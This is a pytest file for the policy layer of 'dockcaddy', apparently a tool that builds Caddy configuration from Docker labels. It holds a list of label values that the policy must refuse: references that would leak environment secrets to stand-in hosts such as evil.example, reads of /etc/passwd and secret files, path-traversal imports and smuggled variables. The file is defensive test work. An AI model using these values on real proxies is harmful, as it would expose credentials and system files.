"""What labels may not say, and who may say it all the same. `tests/golden/policy` holds what is told, case by case."""

from collections.abc import Callable

import pytest
from dockcaddy import LabelError, plugins, testing
from dockcaddy.errors import SettingsError
from dockcaddy.plugins.sections import load_sections
from dockcaddy.settings.table import Settings
from dockcaddy_policy import PolicySettings
from policies import refused_by, rendered, site
from policy_cases import ALLOWED
from work import grows_evenly

REFUSED = [
    ("environment", site(caddy__respond="`a {env.TOKEN} b`")),
    ("environment", site(caddy__header__X="{env.TOKEN}")),
    ("environment", {"caddy": "example.org", "caddy.header.{env\\.TOKEN}": "x"}),
    ("environment", {"caddy": "example.org", "caddy.@a.vars_regexp": "n {}env.TOKEN} .*"}),
    ("environment", {"caddy": "example.org", "caddy.@a.vars": "{}}env.TOKEN}} x"}),
    ("environment", {"caddy": "(s)", "caddy.log_append": "x {\\}env.TOKEN}"}),
    ("environment", site(caddy__log__format="append", caddy__log__format__x="{}env.TOKEN}")),
    ("environment", site(caddy__tls__issuer="acme {env.TOKEN}")),
    ("environment", {"caddy.email": "{env.MAIL_PASSWORD}"}),
    ("environment", site(caddy__tls__eab="{env.KEY_ID_TOKEN} x")),
    ("environment", site(caddy__tls__ca="{env.CA_PASSWORD}")),
    ("environment", {"caddy": "example.org", "caddy.basic_auth.{env\\.USER_PASSWORD}": "x"}),
    ("environment", {"caddy.cert_issuer": "acme {$TOKEN}"}),
    ("environment", {"caddy": "(s)", "caddy.respond": "{env.TOKEN}"}),
    ("environment", {"caddy.email": "{env.TOKEN}"}),
    ("environment", site(caddy__tls__ca="{env.TOKEN}")),
    ("environment", site(caddy__basic_auth="bcrypt {env.TOKEN}")),
    ("environment", {"caddy": "example.org", "caddy.@a.vars": "{env.TOKEN} x"}),
    ("environment", site(caddy__vars__tls="{env.TOKEN}")),
    ("environment", site(caddy__header__dns="{env.TOKEN}")),
    ("environment", site(caddy__header__acme_x="{$TOKEN}")),
    ("environment", site(caddy__reverse_proxy="a:80", caddy__reverse_proxy__health_headers__dns="{env.TOKEN}")),
    ("environment", site(caddy__map="{host} {x}", caddy__map__storage="{env.TOKEN}")),
    ("environment", {"caddy": "example.org", "caddy.import": "s", "caddy.import.tls": "{env.TOKEN}"}),
    ("environment", site(caddy__tls="{env.TOKEN}")),
    ("environment", site(caddy__tls="{$TOKEN} {$TOKEN}")),
    ("environment", site(caddy__tls__protocols="{$TOKEN}")),
    ("environment", site(caddy__tls__dns="{$TOKEN}")),
    ("environment", site(caddy__tls__load="{env.TOKEN}")),
    ("environment", site(caddy__tls__eab="{env.TOKEN} {env.TOKEN}")),
    ("environment", site(caddy__tls__issuer="acme", caddy__tls__issuer__email="{env.TOKEN}")),
    ("environment", site(caddy__tls__issuer="acme", caddy__tls__issuer__profile="{env.TOKEN}")),
    ("environment", site(caddy__tls__issuer="acme", caddy__tls__issuer__dir="https://evil.test email {env.DB_URL}")),
    ("environment", site(caddy__tls__dns_challenge_override_domain="{env.TOKEN}")),
    ("environment", site(caddy__tls__dns="rfc2136", caddy__tls__dns__key_name="{env.TOKEN}")),
    ("environment", {"caddy": "example.org", "caddy.basic_auth.{env\\.TOKEN}": "x"}),
    ("environment", {"caddy": "example.org", "caddy.vars.basic_auth.bob": "{env.TOKEN}"}),
    ("environment", {"caddy.acme_eab.key_id": "{env.TOKEN}"}),
    ("environment", {"caddy.storage": "{$TOKEN}"}),
    ("dns-servers", {"caddy.acme_dns": "acmedns", "caddy.acme_dns.server_url": "http://evil.example"}),
    ("dns-servers", site(caddy__tls__dns="powerdns", caddy__tls__dns__server_url="{$NO_URL:http://evil.example}")),
    ("dns-servers", site(caddy__tls__dns="powerdns", caddy__tls__dns__api_token="{env.T} server_url http://evil.example")),
    ("dns-servers", site(caddy__tls__dns="x https://evil.example {env.TOKEN}")),
    ("dns-servers", site(caddy__tls__dns="inwx", caddy__tls__dns__endpoint_url="evil.example")),
    ("dns-servers", site(caddy__tls__dns="x", caddy__tls__dns__some_place="https://evil.example")),
    ("files", site(caddy__log_append="x {}file./etc/hostname}")),
    ("files", site(caddy__log_append="x {}file.base}")),
    ("files", site(caddy__tls__dns="{file./run/secrets/a}")),
    ("imports", {"caddy": "import /etc/passwd"}),
    ("imports", {"caddy": "(/home/op/caddy/auth.caddy)", "caddy.respond": "{args[0]}"}),
    ("imports", site(caddy__import="/home/op/caddy/../../adm/x")),
    ("imports", site(caddy__import="/home/op/caddy/sites/../auth.caddy")),
    ("imports", site(caddy__handle__import="{args[0]}")),
    ("imports", site(caddy__import=".env")),
    ("imports", site(caddy__import="*")),
    ("imports", site(caddy__import="/home/op/caddy/*/secret")),
    ("imports", {"caddy": "(s)", "caddy.{args[0]}": "/data"}),
    ("imports", {"caddy": "(s)", "caddy.vars.{args[0]}": "/data/x"}),
    ("imports", {"caddy": "(s)", "caddy.header.im{args.0}": "/etc/hostname"}),
    ("imports", {"caddy": "(s)", "caddy.{args[:]}": ""}),
    ("imports", {"caddy": "a.test", "caddy.{$U}": "import /etc/passwd"}),
    ("imports", {"caddy": "a.test", "caddy.{$U:import}": "/etc/passwd"}),
    ("imports", {"caddy": "a.test", "caddy.basic_auth.{$U:im}port": "/etc/passwd"}),
    ("imports", {"caddy": "{$U} import /etc/passwd"}),
    ("imports", {"caddy": "(s)", "caddy.{$U}": "{args[0]} /etc/passwd"}),
    ("log-hosts", site(caddy__log__hostnames="example.org other.example.org")),
    ("log-hosts", {"caddy": "http://", "caddy.log.hostnames": "bank.example"}),
    ("log-hosts", {"caddy": "*.*", "caddy.log.hostnames": "bank.example"}),
    ("log-hosts", {"caddy": "(s)", "caddy.log.hostnames": "{args[0]}"}),
    ("log-hosts", {"caddy": "(s)", "caddy.hostnames": "bank.example"}),
    ("log-hosts", {"caddy": "(s)", "caddy.import": "t", "caddy.import.hostnames": "bank.example"}),
    ("global-options", {"caddy.order": "respond first"}),
    ("global-options", {"caddy.order": "basic_auth last"}),
    ("shared-options", {"caddy.order": "templates before respond"}),
    *(
        ("global-options", {"caddy.servers": ":443", "caddy.servers.name": name})
        for name in ("srv0", "srv12", "remaining_auto_https_redirects")
    ),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "labels"), REFUSED, ids=[f"{rule}-{at}" for at, (rule, _) in enumerate(REFUSED)])
def test_a_label_that_could_reach_the_proxys_own_is_refused(rule: str, labels: dict[str, str]) -> None:
    assert refused_by(labels) == rule


@pytest.mark.parametrize("labels", ALLOWED, ids=[str(at) for at, _ in enumerate(ALLOWED)])
def test_what_people_use_is_let_through(labels: dict[str, str]) -> None:
    assert not rendered(labels).problems


@pytest.mark.parametrize("words", ["name ", "server "])
def test_more_options_in_a_line_than_anybody_writes_are_refused(words: str) -> None:
    for label in ("caddy.log.include", "caddy.servers.client_ip_headers"):
        told = [str(problem) for problem in rendered({label: words * 257}).problems]
        assert told == [f"container web-1: label {label}: policy: more than 256 options in one line"]


@pytest.mark.parametrize("words", ["a{} ", "name x{} ", "10.0.{}.0/24 "])
def test_a_line_of_many_words_is_no_work_beyond_reading_it(words: str) -> None:
    def labels(words: list[str]) -> Callable[[], object]:
        return lambda: rendered(
            {"caddy.log.include": "".join(words), "caddy.servers.client_ip_headers": "".join(words)}
        )

    assert grows_evenly(lambda size: labels([words.format(number) for number in range(size)]), 50)


@pytest.mark.parametrize(
    "allow",
    [
        "environment",
        "environment@container:web-*",
        "container:web-1",
        "environment@project:shop",
        "network:front",
        "environment@prefix:caddy.resp",
    ],
)
def test_a_setting_lets_through_whom_it_names(allow: str) -> None:
    labels = site(caddy__respond="{env.TOKEN}") | {"com.docker.compose.project": "shop"}
    assert refused_by(labels, PolicySettings(allow=(allow,))) == ""


@pytest.mark.parametrize("allow", ["files", "environment@container:db", "project:other", "environment@prefix:caddy_9"])
def test_a_setting_lets_through_nobody_else(allow: str) -> None:
    assert refused_by(site(caddy__respond="{env.TOKEN}"), PolicySettings(allow=(allow,))) == "environment"


def test_the_container_that_caddy_runs_in_may_set_options_for_everybody() -> None:
    for options in ({"caddy.order": "header last"}, {"caddy.email": "{env.TOKEN}"}):
        assert rendered(options).problems and not rendered(options, runs_caddy=True).problems


def test_full_trust_lets_everything_through() -> None:
    settings = PolicySettings(trust="all")
    assert [labels for _, labels in REFUSED if refused_by(labels, settings)] == []


def test_the_refusal_names_the_label_and_the_way_around() -> None:
    (problem,) = rendered(site(caddy__respond="{env.TOKEN}")).problems
    assert str(problem) == (
        "container web-1: label caddy.respond: policy: {env.TOKEN} could be sent out; "
        'to allow it: [policy] allow = ["environment@container:web-1"]'
    )


@pytest.mark.parametrize(
    ("given", "message"),
    [("enviroment", 'no rule "enviroment", did you mean "environment"'), ("files@name:x", "expected RULE, SCOPE:NAME")],
)
def test_a_wrong_exception_is_told(given: str, message: str) -> None:
    settings = Settings(sections={"policy": {"allow": [given]}}, source="dockcaddy.toml")
    with pytest.raises(SettingsError, match=message):
        load_sections(settings, plugins.load().sections, {})


def test_what_a_rule_refuses_may_still_be_shown() -> None:
    fragment = rendered({"caddy.order": "templates before respond"})
    assert fragment.refused and "templates" in fragment.content


@pytest.mark.parametrize("value", ["{$x", "{$X:`}", "{$X:<<E}", "{$X:#}", "{$}", "a {$X:{} b"])
def test_a_variable_that_would_open_a_structure_is_refused_whomever_it_comes_from(value: str) -> None:
    fragment = rendered(site(caddy__respond=value), PolicySettings(trust="all"))
    assert "not a whole reference to a variable" in str(fragment.problems)


def test_an_admission_rule_may_refuse_a_resource() -> None:
    class Strict:
        __name__ = "dockcaddy_strict"

        @staticmethod
        def check(context, blocks) -> None:
            raise LabelError(blocks[0].origins[0].label, "not today")

    import dockcaddy

    plugin = type("Strict", (), {"__name__": "dockcaddy_strict"})()
    plugin.dockcaddy_admission_rules = dockcaddy.hook(lambda: [dockcaddy.AdmissionRule("strict", Strict.check)])
    fragment = testing.fragment(testing.container("web-1", labels=site(caddy__respond="x")), plugin)
    assert str(fragment.problems[0]) == "container web-1: label caddy: not today"
